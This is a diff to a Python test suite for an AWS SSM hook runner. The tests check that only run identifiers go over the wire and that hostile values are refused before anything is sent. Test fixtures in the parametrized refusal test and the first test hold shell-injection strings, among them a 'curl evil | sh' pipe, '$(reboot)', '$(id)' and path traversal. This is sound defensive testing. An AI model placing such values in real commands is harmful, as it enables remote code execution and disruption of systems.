@@ -9,9 +9,12 @@ an instance would have answered by editing moto's invocation records right after
 from __future__ import annotations
 
 import json
+import math
+from dataclasses import replace
 from typing import Any
 
 import pytest
+from moto.ssm.models import ssm_backends
 
 from quiesce.policy.model import Hook
 from quiesce.record import HookResult, HookStatus
@@ -24,6 +27,7 @@ from quiesce_aws.hooks import (
 )
 
 from .conftest import (
+    ACCOUNT,
     REGION,
     FakeClock,
     Fleet,
@@ -112,20 +116,30 @@ def test_calls_with_different_parameters_go_in_separate_commands(
     assert by_member == {"db": sorted([db1, db2]), "web": [web]}
 
 
-def test_a_pre_sends_typed_parameters_for_the_hook_the_thaw_and_the_freeze_bound(
+def moto_commands() -> list[Any]:
+    """The commands moto received, as its SSM backend keeps them (what went over the wire)."""
+    commands: list[Any] = ssm_backends[ACCOUNT][REGION]._commands
+    return commands
+
+
+#: What a SendCommand of the run-hook document may carry: names and identifiers, nothing else.
+IDENTIFIERS = {"Phase", "RunId", "Member", "Hook", "ExpiresAt", "RestorePath", "ExecutionTimeout"}
+
+
+def test_a_pre_sends_only_the_runs_identifiers_and_the_declared_hooks_name(
     runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
 ) -> None:
     (instance,) = fleet.launch(1, data_volumes=0)
     sent = wire.sent(ssm, "SendCommand")
     answered_by_runner(wire, ssm)
     hook = Hook(
-        run=["/etc/quiesce/hooks/pause.sh", "orders", "--flush now"],
+        run=["/etc/quiesce/hooks/pause.sh", "orders", "--flush now", "it's $(reboot)"],
         sha256="a" * 64,
         timeout_seconds=2.5,
         retries=1,
-        env={"DB_NAME": "orders"},
+        env={"DB_PASSWORD": "hunter2-secret"},
     )
-    thaw = Hook(run=["/etc/quiesce/hooks/resume.sh"], timeout_seconds=10)
+    thaw = Hook(run=["/etc/quiesce/hooks/resume.sh", "`reboot`"], timeout_seconds=10)
 
     runner.run(hook_call(machine(instance), "pre", hook=hook, thaw=thaw, max_freeze_seconds=45))
 
@@ -133,63 +147,98 @@ def test_a_pre_sends_typed_parameters_for_the_hook_the_thaw_and_the_freeze_bound
     assert command["InstanceIds"] == [instance]
     assert command["MaxErrors"] == "100%"
     assert command["TimeoutSeconds"] == 30
-    params = command["Parameters"]
-    assert params.pop("ExecutionTimeout") == ["60"]
-    assert params == {
+    expected = {
         "Phase": ["pre"],
         "RunId": ["20261129T100000Z-abc123"],
         "Member": ["db"],
-        "Script": ["/etc/quiesce/hooks/pause.sh"],
-        "Args": ["orders", "--flush now"],
-        "Sha256": ["a" * 64],
-        "TimeoutSeconds": ["2.5"],
-        "Retries": ["1"],
-        "Env": ["DB_NAME=orders"],
-        "ThawScript": ["/etc/quiesce/hooks/resume.sh"],
-        "ThawTimeoutSeconds": ["10"],
-        "ThawRetries": ["0"],
-        "MaxFreezeSeconds": ["45"],
+        "Hook": ["orders.db.pre"],
         "ExpiresAt": ["1800000045.000"],
+        "ExecutionTimeout": ["60"],
     }
+    assert command["Parameters"] == expected
+    (received,) = moto_commands()
+    assert received.parameters == expected
+    assert received.document_name == RUN_HOOK_DOCUMENT
+    on_the_wire = json.dumps(command)
+    for private in (
+        "pause.sh",
+        "resume.sh",
+        "--flush",
+        "reboot",
+        "DB_PASSWORD",
+        "hunter2",
+        "a" * 64,
+    ):
+        assert private not in on_the_wire, private
 
 
-def test_a_post_carries_no_thaw_no_freeze_bound_and_no_expiry(
+def test_the_answer_and_execution_timeouts_still_come_from_the_policys_hook(
+    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire, clock: FakeClock
+) -> None:
+    (instance,) = fleet.launch(1, data_volumes=0)
+    on_send_command(wire, ssm, lambda _c, _i: {"Status": "InProgress", "StatusDetails": "x"})
+    hook = Hook(run=["/etc/quiesce/hooks/pause.sh"], timeout_seconds=100, retries=2)
+    started = clock.now
+
+    result = runner.run(hook_call(machine(instance), "pre", hook=hook))
+
+    (received,) = moto_commands()
+    budget = 100 * 3 + 1.5 * 3 + 20  # timeouts x attempts + per-attempt and fixed slack
+    assert received.parameters["ExecutionTimeout"] == [str(math.ceil(budget + 30))]
+    assert result.code == "NoAnswer"
+    assert clock.now - started == pytest.approx(budget)
+
+
+def test_a_post_carries_no_expiry_and_a_verify_only_its_restore_path(
     runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
 ) -> None:
     (instance,) = fleet.launch(1, data_volumes=0)
     sent = wire.sent(ssm, "SendCommand")
     answered_by_runner(wire, ssm)
+    verify = replace(
+        hook_call(machine(instance), "verify"), extra_args=("/restore/orders-2026/db",)
+    )
 
     runner.run(hook_call(machine(instance), "post"))
+    runner.run(verify)
 
-    params = sent[0]["Parameters"]
-    assert params["Phase"] == ["post"]
-    assert not {"ThawScript", "MaxFreezeSeconds", "ExpiresAt"} & set(params)
+    post, checked = (c["Parameters"] for c in sent)
+    assert set(post) == {"Phase", "RunId", "Member", "Hook", "ExecutionTimeout"}
+    assert post["Hook"] == ["orders.db.post"]
+    assert checked["Hook"] == ["orders.db.verify"]
+    assert checked["RestorePath"] == ["/restore/orders-2026/db"]
+    assert all(set(c.parameters) <= IDENTIFIERS for c in moto_commands())
 
 
 @pytest.mark.parametrize(
-    ("hook", "why"),
+    ("change", "why"),
     [
-        (Hook(run=["/etc/quiesce/pause.sh", "it's"]), "Args"),
-        (Hook(run=["/etc/quiesce/pause.sh", "$(reboot)"]), "Args"),
-        (Hook(run=["/etc/quiesce/pause.sh", "`reboot`"]), "Args"),
-        (Hook(run=["/etc/quiesce/pause.sh", "a\nb"]), "Args"),
-        (Hook(run=["/etc/quiesce/pause.sh", "{{ Phase }}"]), "Args"),
-        (Hook(run=["/etc/quiesce/my hooks/pause.sh"]), "Script"),
-        (Hook(run=["/etc/quiesce/pause.sh"], env={"X": 'say "hi"'}), "Env"),
+        ({"member": "x' ; sh -c 'curl evil | sh' ; '"}, "Member"),
+        ({"group": "orders' ; /bin/sh -c 'id"}, "Hook"),
+        ({"group": "../../tmp/evil"}, "Hook"),
+        ({"group": "orders/db"}, "Hook"),
+        ({"member": "db\nid"}, "Member"),
+        ({"member": "{{ Phase }}"}, "Member"),
+        ({"run_id": "r$(reboot)"}, "RunId"),
+        ({"phase": "verify", "extra_args": ("/restore/it's here",)}, "RestorePath"),
+        ({"phase": "verify", "extra_args": ("/restore/$(id)",)}, "RestorePath"),
+        ({"phase": "verify", "extra_args": ("relative/path",)}, "RestorePath"),
+        ({"extra_args": ("--anything",)}, "declare the arguments"),
     ],
 )
-def test_a_value_the_document_would_refuse_is_never_sent(
-    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire, hook: Hook, why: str
+def test_a_hostile_value_is_refused_before_anything_is_sent(
+    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire, change: dict[str, Any], why: str
 ) -> None:
     (instance,) = fleet.launch(1, data_volumes=0)
     sent = wire.sent(ssm, "SendCommand")
+    call = replace(hook_call(machine(instance), "post"), **change)
 
-    result = runner.run(hook_call(machine(instance), "post", hook=hook))
+    result = runner.run(call)
 
     assert (result.status, result.code) == (HookStatus.REFUSED, "BadParameter")
     assert why in result.message
     assert sent == []
+    assert moto_commands() == []
 
 
 def test_windows_machines_get_no_hooks(
@@ -215,7 +264,22 @@ def test_check_sends_the_check_phase(
 
     assert (result.status, result.code) == (HookStatus.SUCCEEDED, "Allowed")
     assert sent[0]["Parameters"]["Phase"] == ["check"]
-    assert sent[0]["Parameters"]["ThawScript"] == ["/etc/quiesce/hooks/resume.sh"]
+    assert sent[0]["Parameters"]["Hook"] == ["orders.db.pre"]
+    assert set(sent[0]["Parameters"]) <= IDENTIFIERS
+
+
+def test_a_checks_declared_digests_are_kept_in_the_result(
+    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
+) -> None:
+    (instance,) = fleet.launch(1, data_volumes=0)
+    answer = runner_result(
+        code="Allowed", exit_code=None, attempts=0, declared="d" * 64, thaw_declared="e" * 64
+    )
+    answered_by_runner(wire, ssm, answer)
+
+    result = runner.check(hook_call(machine(instance), "pre"))
+
+    assert (result.declared, result.thaw_declared) == ("d" * 64, "e" * 64)
 
 
 # ------------------------------------------------------------------------------ results
